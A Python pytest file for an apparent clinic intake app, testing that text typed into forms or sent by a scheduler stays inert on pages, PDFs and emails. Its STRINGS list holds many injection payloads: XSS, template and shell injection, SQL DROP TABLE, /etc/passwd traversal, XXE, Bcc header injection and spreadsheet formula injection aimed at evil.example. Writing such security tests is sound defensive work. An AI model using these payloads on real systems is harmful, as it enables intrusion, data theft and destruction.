"""Strings that try to become markup, code or headers: in every field, they stay text or are refused."""

import json
import time
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from typing import Any

import pytest
from flask import Flask

from handlers.context import Context
from handlers.links import LinkPurpose
from handlers.worker import work
from schemas.booking import Booking
from schemas.forms.questionnaire import QuestionType
from store import bookings, plans
from tests.helpers.answers import TAPPED
from tests.helpers.content import library
from tests.helpers.mailbox import Mailbox
from tests.helpers.phone import Phone, intake_of, phone, stored
from tests.helpers.visits import receive, webhook

MARK = "zq7331"
STRINGS = [
    # elements and attributes
    f"<script>{MARK}()</script>",
    f"<ScRiPt src=//evil.example/{MARK}.js></sCrIpT>",
    f"<img src=x onerror={MARK}()>",
    f'"><svg onload={MARK}()>',
    f"' onfocus='{MARK}()' autofocus='",
    f'" onmouseover="{MARK}()" x="',
    f"` onclick=`{MARK}()`",
    f"</title><h1>{MARK}</h1>",
    f"</textarea><iframe src=javascript:{MARK}()>",
    f"</script><script>{MARK}()</script>",
    f"</style><style>@import '//evil.example/{MARK}'</style>",
    f"<a href=javascript:{MARK}()>x</a>",
    f"javascript:{MARK}()",
    f"data:text/html,<b>{MARK}</b>",
    f"<base href=//evil.example/{MARK}>",
    f"<meta http-equiv=refresh content=0;//evil.example/{MARK}>",
    f"<form action=//evil.example/{MARK}><button>",
    f"<object data={MARK}><embed src={MARK}>",
    f"<!--{MARK}--><![CDATA[{MARK}]]>",
    f"<math><mi xlink:href=javascript:{MARK}()>",
    f"&lt;b&gt;{MARK}&#60;/b&#62;",
    f"&#x3c;img src={MARK}&#x3e;",
    f"\uff1cscript\uff1e{MARK}\uff1c/script\uff1e",
    f"%3Cscript%3E{MARK}%3C/script%3E",
    f"\\u003cimg src={MARK}\\u003e",
    f"https://evil.example/{MARK}",
    f"[{MARK}](https://evil.example)",
    # templates, typesetting, shells, databases, files
    f"{{{{ 7331 * 7 }}}} {MARK}",
    f"{{{{ config.items() }}}} {MARK}",
    f"{{% include '/etc/passwd' %}} {MARK}",
    f"{{# {MARK} #}}",
    f"${{7331*7}} #{{7331*7}} {MARK}",
    f"<%= 7331*7 %> {MARK}",
    f"%(secret_key)s {{0.__class__}} {MARK}",
    f'#read("/etc/passwd") {MARK}',
    f'#eval("7331*7") $ {MARK} $',
    f"*{MARK}* _x_ `y` <label> @ref",
    f"\\input{{/etc/passwd}} {MARK}",
    f"$(id) `id` ; {MARK}",
    f"| cat /etc/passwd & {MARK}",
    f"' OR 1=1; DROP TABLE intakes; -- {MARK}",
    f'" UNION SELECT secret FROM connections -- {MARK}',
    f"../../../../etc/passwd {MARK}",
    f"file:///etc/passwd#{MARK}",
    f"<!ENTITY x SYSTEM 'file:///etc/passwd'> {MARK}",
    # mail headers, log lines, tables
    f"a\r\nBcc: {MARK}@evil.example\r\n\r\nx",
    f"a\nSubject: {MARK}",
    f"a%0d%0aBcc:{MARK}@evil.example",
    f"=?utf-8?q?{MARK}=0ABcc:_x=40evil.example?=",
    f'{{"level": "info"}}\n{{"message": "{MARK}"}}',
    f'=HYPERLINK("https://evil.example/{MARK}")',
    f"+cmd|' /C calc'!A0 {MARK}",
    f"@SUM(1,1) {MARK}",
    # characters
    f"\u202e{MARK}\u2066",
    f"\x00{MARK}\x1b[31m",
    f"\ufeff\u200b{MARK}\u2028x",
    f"{MARK}" + "\u0301" * 40,
]
TYPED = (QuestionType.TEXT, QuestionType.LONGTEXT)
NOT_ASKED = ("full_name", "guardian_name", "allergy_text")  # of Zoë, who is grown up and has no allergy
AT_ONCE = 12  # fields that she types into
ON_A_FILE = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)


class Parsed(HTMLParser):
    """What a browser makes of a page: elements and attributes that hold the mark, apart from values."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.bad: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, pairs: list[tuple[str, str | None]]) -> None:
        """An attribute may hold the mark only where a field shows its value."""
        for name, value in pairs:
            held = MARK in name or (MARK in (value or "") and name != "value")
            if held or name.startswith("on") or MARK in tag:
                self.bad.append(f"<{tag} {name}={value!r}>")
        if tag in ("iframe", "object", "embed", "base"):
            self.bad.append(tag)


def assert_harmless(page: str) -> None:
    """Nothing on the page was made from what a client typed; no template was worked out."""
    assert Parsed(page).bad == []
    assert "51317" not in page
    assert "root:x:0" not in page


@ON_A_FILE
@pytest.mark.parametrize("shift", range(0, len(STRINGS), AT_ONCE))
def test_what_a_client_types_stays_text_on_every_page_and_in_every_mail(
    app: Flask, context: Context, booking: Booking, hers: Phone, mailbox: Mailbox, shift: int
) -> None:
    asked = library().questionnaires["first_visit"].questions()
    fields = [each for each in asked if each.type in TYPED and each.id not in NOT_ASKED]
    texts = (STRINGS[shift:] + STRINGS[:shift])[:AT_ONCE]
    typed = {question.id: text[: question.max_length] for question, text in zip(fields, texts, strict=True)}
    sent = hers.fill_in({**TAPPED, **typed, "act2_score": "5", "act3_score": "5"})
    assert_harmless(sent.text)
    assert intake_of(context, booking).done
    assert {name for name in typed if MARK in json.dumps(stored(context, booking).get(name))} == set(typed)
    with context.db.begin() as tx:
        drafted = plans.newest(tx, booking.id)
        assert drafted is not None
        plans.sent(tx, drafted.id, datetime.now(UTC))
    shown = phone(app, context, LinkPurpose.plan, booking.id)
    assert_harmless(shown.get().text)
    assert shown.get("/plan.pdf").data.startswith(b"%PDF")
    work.work_once(context, datetime.now(UTC))
    for mail in mailbox.mails:
        assert MARK not in str(mail)
    assert len({tuple(each) for each in mailbox.recipients}) <= 2


def test_what_is_typed_is_shown_again_as_text_beside_an_error(hers: Phone) -> None:
    for text in STRINGS:
        page = hers.send("/about", {"preferred_name": text, "emergency_contact_name": text * 30})
        assert "There is a problem" in page.text
        assert_harmless(page.text)


@pytest.mark.parametrize(
    "text", [STRINGS[0], STRINGS[4], STRINGS[-3]], ids=["element", "attribute", "control"]
)
def test_no_choice_takes_what_it_does_not_offer(
    context: Context, booking: Booking, hers: Phone, text: str
) -> None:
    steps = library().questionnaires["first_visit"].steps
    for step in steps:
        page = hers.send(f"/{step.id}", {question.id: text for question in step.questions})
        assert page.status_code == 200
        assert_harmless(page.text)
    kept = stored(context, booking)
    offered = (QuestionType.CHOICE, QuestionType.MULTI, QuestionType.BODYMAP, QuestionType.SCALE)
    chosen = [q.id for step in steps for q in step.questions if q.type in offered]
    assert not [name for name in chosen if MARK in json.dumps(kept.get(name, ""))]


@ON_A_FILE
def test_a_name_from_the_scheduler_stays_text(app: Flask, context: Context, mailbox: Mailbox) -> None:
    now = datetime.now(UTC)
    for number, text in enumerate(STRINGS):
        address = f"x{number}@example.org"
        receive(context, webhook("created", now, uid=f"x{number}", name=text[:60], email=address))
    work.work_once(context, now)
    work.work_once(context, now + timedelta(minutes=1))
    with context.db.read() as tx:
        found = bookings.listing(tx)
    assert len(found) > len(STRINGS) / 2
    for each in found:
        assert_harmless(phone(app, context, LinkPurpose.intake, each.id).get().text)
    assert len(mailbox.mails) == len(found)
    for mail in mailbox.mails:
        assert "Bcc" not in mail
        for part in mail.walk():
            if part.get_content_type() == "text/html":
                assert_harmless(part.get_content())


@pytest.mark.parametrize(
    "body",
    [
        b"&".join(b"f%d=x" % number for number in range(100_000)),
        b"preferred_name=" + b"x" * 10_000_000,
        b"a" * 10_000_000,
        b"%" * 200_000,
    ],
    ids=["fields", "one_field", "bytes", "escapes"],
)
def test_a_flood_is_answered_quickly(hers: Phone, context: Context, booking: Booking, body: bytes) -> None:
    started = time.monotonic()
    answer: Any = hers.http.post(
        f"{hers.link}/about",
        data=body,
        base_url="https://care.test",
        content_type="application/x-www-form-urlencoded",
    )
    assert 400 <= answer.status_code < 500
    assert time.monotonic() - started < 10
    assert stored(context, booking) == {}
